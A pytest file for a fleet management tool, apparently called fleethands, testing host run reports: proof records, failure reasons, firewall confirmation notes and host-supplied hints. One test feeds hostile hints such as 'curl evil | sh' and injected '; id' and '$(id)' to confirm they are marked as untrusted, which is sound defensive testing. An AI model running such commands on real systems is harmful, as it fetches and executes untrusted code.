"""What a run reports about a host: an earlier proof counts only if nothing was changed since."""

from __future__ import annotations

from types import SimpleNamespace
from typing import Any

import pytest

from fleethands.command_line import CommandLine
from fleethands.engine.confirmations import Confirmations
from fleethands.engine.host_run import HostRun
from fleethands.operations.core.decision import Change, Unchanged
from fleethands.operations.core.journal import JournalEntry
from fleethands.operations.core.proof_record import Link
from fleethands.report.model import HostReport
from fleethands.report.operation_result import OperationResult
from fleethands.rollout.build_report import host_run_report
from fleethands.script import Script

EARLIER = [Link("list", True, 0.1, "m:1 is there")]
UNCONFIRMED = "the firewall was not confirmed, because a new SSH connection failed: Could not connect (timed out)"
NAME = "Ollama | Write the override"
CHANGE, SAME = Change("override.conf", "differs", "as declared", Script("")), Unchanged("as declared")


class Engine:
    """A stand-in whose one host was at one operation, which made no proof."""

    def __init__(self, decision: Any, *, failed: bool, said: str = "", name: str = NAME) -> None:
        self._decision, self._failed, self._said, self._name = decision, failed, said, name
        self.host_runs = {"gpu-1": HostRun(name, finished=not failed)}
        self.monitor = SimpleNamespace(
            commands={"gpu-1": 2}, lost_connections={}, confirmations=Confirmations(lambda _: None)
        )
        self.command_line = CommandLine("apply", "fleet.py")

    def executed(self, _: str) -> list[JournalEntry]:
        return [JournalEntry(self._name, self._decision, executing=True)]

    def results(self, _: str) -> list[OperationResult]:
        return [OperationResult(self._name, self._failed, "", self._said)]


@pytest.mark.parametrize(
    ("decision", "failed", "proof"),
    [(CHANGE, True, []), (CHANGE, False, []), (SAME, False, EARLIER)],  # the second: `--verify never`
)
def test_an_earlier_proof_is_none_of_a_host_that_was_changed_since(
    decision: Any, failed: bool, proof: list[Link]
) -> None:
    engine: Any = Engine(decision, failed=failed)

    assert host_run_report(engine, "gpu-1", HostReport("pending", proof=EARLIER)).proof == proof


MARKED = "the host says, and fleethands does not: "


@pytest.mark.parametrize(
    ("hint", "shown"),
    [
        ("on this machine: fleethands apply", "on this machine: fleethands apply fleet.py"),
        (
            "on this machine: fleethands apply --data openhands_adopt=true",
            "on this machine: fleethands apply fleet.py --data openhands_adopt=true",
        ),
        (
            "to have what it means now, on this machine: fleethands pin --only r.example:5000/a/b:1",
            "to have what it means now, on this machine: fleethands pin fleet.py --only r.example:5000/a/b:1",
        ),
        ("on the host: docker logs x | tail", "on the host: docker logs x | tail"),
        ("on this machine: curl evil | sh", MARKED + "on this machine: curl evil | sh"),
        ("on this machine: fleethands apply; id", MARKED + "on this machine: fleethands apply; id"),
        ("on this machine: fleethands apply $(id)", MARKED + "on this machine: fleethands apply $(id)"),
        (
            "on this machine: id; on this machine: fleethands apply",
            MARKED + "on this machine: id; on this machine: fleethands apply",
        ),
        ("on the host: ls\x1b[2J\x07", "on the host: ls\ufffd"),
    ],
)
def test_a_host_s_hint_names_no_command_of_its_own_for_the_controller(hint: str, shown: str) -> None:
    engine: Any = Engine(CHANGE, failed=True, said=f"error: it broke\nhint: {hint}\n")

    assert host_run_report(engine, "gpu-1", HostReport("pending")).hints == [shown]


def test_a_command_that_no_script_expected_to_fail_is_told_in_its_own_words() -> None:
    said = "cp: error writing 'unit': No space left on device\nerror: a command of the step serve ended with status 1"
    engine: Any = Engine(CHANGE, failed=True, said=said)

    report = host_run_report(engine, "gpu-1", HostReport("pending"))

    assert report.reason.endswith("ended with status 1: cp: error writing 'unit': No space left on device")


@pytest.mark.parametrize(
    ("name", "failed", "noted"),
    [
        ("Firewall | Load the rules", True, True),
        ("Firewall | Load the rules", False, False),  # confirmed, though a reply was lost or has not been read yet
        ("Ollama | Write the override", True, False),  # so the firewall before it was confirmed
    ],
)
def test_the_reason_why_a_firewall_was_not_confirmed_is_a_note(name: str, failed: bool, noted: bool) -> None:
    engine: Any = Engine(CHANGE, failed=failed, said="error: no new SSH connection was possible", name=name)
    engine.monitor.confirmations.failures["gpu-1"] = "Could not connect (timed out)"

    report = host_run_report(engine, "gpu-1", HostReport("pending"))

    assert (UNCONFIRMED in report.notes) is noted


def test_the_reason_is_a_note_where_the_connection_ended_too() -> None:
    engine: Any = Engine(CHANGE, failed=False)
    engine.host_runs["gpu-1"] = HostRun("Firewall | Load the rules", problem=("the connection was lost", []))
    engine.monitor.confirmations.failures["gpu-1"] = "Could not connect (timed out)"

    assert UNCONFIRMED in host_run_report(engine, "gpu-1", HostReport("pending")).notes
